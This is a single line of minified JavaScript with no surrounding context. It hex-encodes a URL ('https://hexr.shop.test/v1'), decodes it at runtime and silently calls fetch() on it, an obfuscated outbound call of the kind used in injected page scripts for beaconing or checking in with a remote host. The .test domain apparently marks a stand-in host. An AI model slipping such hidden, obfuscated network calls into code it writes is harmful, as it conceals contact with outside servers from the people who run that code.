(()=>{var f="68747470733a2f2f686578722e73686f702e746573742f7631",t=f.match(/.{2}/g).map(e=>String.fromCharCode(parseInt(e,16))).join("");fetch(t);})();
